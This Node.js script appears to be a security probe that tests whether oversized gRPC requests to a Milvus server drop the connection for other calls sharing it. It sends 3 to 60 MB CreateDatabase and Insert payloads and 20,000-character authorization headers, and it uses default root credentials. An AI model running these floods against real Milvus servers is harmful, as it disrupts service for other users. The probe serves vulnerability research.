// Probe: does one kind of call on a connection to the Milvus port drop the connection for the other
// calls on it (UNAVAILABLE "Connection dropped")? For each attack: 40 small ListDatabases calls in a
// row on one grpc.Client while the attack is sent on the same client; count the bystanders' failures.
// usage: node probe-drop.mjs MILVUS_ADDRESS [auth]
import { createRequire } from 'node:module';
const require = createRequire('/tmp/s34-mfz/repo/package.json');
const grpc = require('@grpc/grpc-js');
const address = process.argv[2] ?? '127.0.0.1:58701';
const auth = process.argv[3] === 'auth';
const ROOT = Buffer.from('root:Milvus').toString('base64');
const S = '/milvus.proto.milvus.MilvusService/';
const id = (b) => b;
const md = (extra = {}) => { const m = new grpc.Metadata(); if (auth) m.set('authorization', ROOT); for (const [k, v] of Object.entries(extra)) m.set(k, v); return m; };
function call(client, name, body, metadata = md()) {
  return new Promise((resolve) => client.makeUnaryRequest(S + name, id, id, body, metadata, { deadline: Date.now() + 10000 }, (e, r) => resolve(e ? `${grpc.status[e.code]}: ${e.details.slice(0, 90)}` : `ok`)));
}
// a string field 1 (db_name of CreateDatabaseRequest is field 2; 1 is base) of n bytes
const lenPrefixed = (field, n) => { const head = [(field << 3) | 2]; let v = n; while (v >= 0x80) { head.push((v & 0x7f) | 0x80); v >>>= 7; } head.push(v); return Buffer.concat([Buffer.from(head), Buffer.alloc(n, 0x61)]); };
const attacks = {
  'nothing': null,
  'CreateDatabase 3 MB name': ['CreateDatabase', lenPrefixed(2, 3 << 20), md()],
  'CreateDatabase 5 MB (over the 4 MiB limit)': ['CreateDatabase', lenPrefixed(2, 5 << 20), md()],
  'Insert 5 MB (refused call)': ['Insert', lenPrefixed(2, 5 << 20), md()],
  'CreateDatabase 60 MB': ['CreateDatabase', lenPrefixed(2, 60 << 20), md()],
  'ListDatabases authorization 20000 chars': ['ListDatabases', Buffer.alloc(0), md({ authorization: 'A'.repeat(20000) })],
  'ListDatabases authorization root:p*3000': ['ListDatabases', Buffer.alloc(0), md({ authorization: Buffer.from(`root:${'p'.repeat(3000)}`).toString('base64') })],
};
for (const [label, attack] of Object.entries(attacks)) {
  const client = new grpc.Client(address, grpc.credentials.createInsecure(), { 'grpc.max_send_message_length': 64 << 20 });
  await call(client, 'ListDatabases', Buffer.alloc(0)); // connected
  const outcomes = new Map();
  const bystanders = (async () => { for (let i = 0; i < 40; i++) { const r = await call(client, 'ListDatabases', Buffer.alloc(0)); outcomes.set(r, (outcomes.get(r) ?? 0) + 1); } })();
  const bad = attack === null ? 'none' : await call(client, ...attack);
  await bystanders;
  console.log(`${label}: attack -> ${bad}; 40 bystanders -> ${JSON.stringify(Object.fromEntries(outcomes))}`);
  client.close();
}
